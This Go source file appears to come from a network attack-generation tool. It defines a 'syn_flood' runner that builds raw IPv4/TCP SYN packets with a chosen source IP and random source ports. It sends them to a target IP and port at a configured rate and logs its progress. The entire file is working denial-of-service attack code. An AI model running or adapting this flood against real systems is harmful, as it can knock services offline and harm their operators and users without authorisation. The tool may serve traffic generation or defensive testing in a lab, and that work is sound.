package generator

import (
	"fmt"
	"math/rand"
	"time"

	"github.com/nsrg-lab/attackgen/config"
	"github.com/nsrg-lab/attackgen/pacer"
	"github.com/nsrg-lab/attackgen/packet"
	"github.com/nsrg-lab/attackgen/socketeer"
	"github.com/nsrg-lab/attackgen/stats"
)

type SynFloodRunner struct {
	options *config.SynFloodOptions
	sender  socketeer.PayloadSender

	addLog   func(string) bool
	addError func(error) bool
	record   func(stats.AttackRecord) bool
}

func init() {
	if err := AddRunner("syn_flood", NewSynFlood); err != nil {
		panic(err)
	}
}

func NewSynFlood(p RunnerInitParams) Runner {

	r := SynFloodRunner{
		options:  p.Options.(*config.SynFloodOptions),
		sender:   p.Sender,
		addLog:   p.LogFunc,
		addError: p.ErrFunc,
		record:   p.RecordFunc,
	}

	return &r
}

// randomSourcePort mirrors the flood's source-port draw: uniform in
// [10000, 65535], independent per packet.
func randomSourcePort() uint16 {
	return uint16(10000 + rand.Intn(55536))
}

func (r *SynFloodRunner) Run() error {

	if err := r.sender.Open(); err != nil {
		return fmt.Errorf("syn flood: %w", err)
	}

	defer func() {
		if err := r.sender.Close(); err != nil {
			r.addError(err)
		}
	}()

	rec := stats.AttackRecord{
		Kind:           stats.SynFlood,
		Port:           r.options.TargetPort,
		RequestedCount: r.options.Count,
		TargetRate:     r.options.Rate,
	}

	r.addLog(fmt.Sprintf("syn flood: %d packets to %s:%d at %d pps",
		r.options.Count, r.options.TargetIP, r.options.TargetPort, r.options.Rate))

	p := pacer.New(r.options.Rate)
	start := time.Now()
	lastReport := start

	for i := 0; i < r.options.Count; i++ {

		segment := packet.BuildTCPSyn(randomSourcePort(), uint16(r.options.TargetPort), r.options.SourceIP, r.options.TargetIP)
		pkt := append(packet.BuildIPv4(len(segment), packet.ProtocolTCP, r.options.SourceIP, r.options.TargetIP), segment...)

		if i == 0 {
			r.addLog("syn flood first packet: " + packet.Describe(pkt, true))
		}

		if err := r.sender.Send(pkt); err != nil {
			rec.Failed++
		} else {
			rec.Sent++
		}

		p.Pace()

		if time.Since(lastReport) >= time.Second {
			r.addLog(fmt.Sprintf("syn flood: sent %d/%d", rec.Sent, r.options.Count))
			lastReport = time.Now()
		}
	}

	rec.Finalize(time.Since(start))
	r.record(rec)

	r.addLog(fmt.Sprintf("syn flood completed: sent %d, failed %d, %.2fs, %.0f pps actual",
		rec.Sent, rec.Failed, rec.Duration.Seconds(), rec.ActualRate))

	return nil
}
